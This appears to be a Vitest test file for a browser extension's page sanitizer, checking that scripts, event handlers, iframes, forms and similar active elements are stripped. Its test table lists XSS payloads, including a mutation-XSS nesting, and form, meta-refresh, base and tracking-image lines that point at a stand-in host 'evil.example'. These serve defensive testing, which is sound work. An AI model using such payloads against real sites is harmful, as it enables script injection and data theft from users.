// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { harmlessPage } from '../../../extension/library-page/harmless-page.ts';

/** The shown page as a document, to look for what must not be in it. */
function shown(html: string): Document {
  return new DOMParser().parseFromString(harmlessPage(html), 'text/html');
}

describe('harmlessPage', () => {
  it.each([
    '<script>steal()</script>',
    '<img src=x onerror=steal()>',
    '<svg><script>steal()</script></svg>',
    '<svg onload=steal()>',
    '<a href="javascript:steal()">x</a>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<form action="https://evil.example"><input name=a><button>send</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=steal()>',
    '<template><script>steal()</script></template>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<img src="https://evil.example/seen.gif" srcset="https://evil.example/2x.gif 2x">',
    '<link rel=stylesheet href="https://evil.example/a.css">',
  ])('leaves nothing that acts: %s', (hostile) => {
    const page = shown(`<html><head></head><body><p>kept</p>${hostile}</body></html>`);
    expect(page.querySelectorAll('script, iframe, form, object, embed, base, link, template')).toHaveLength(0);
    for (const element of page.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(value).not.toMatch(/^javascript:/i);
        if (name === 'src' || name === 'srcset') expect(value).toMatch(/^data:/);
      }
    }
    expect([...page.querySelectorAll('meta')].map((meta) => meta.httpEquiv)).toEqual(['Content-Security-Policy']);
    expect(page.body.textContent).toContain('kept');
  });

  it('puts the policy before anything of the page', () => {
    const page = shown('<html><head><style>p{color:red}</style></head><body><p>x</p></body></html>');
    expect(page.head.firstElementChild?.getAttribute('content')).toContain("default-src 'none'");
  });
});
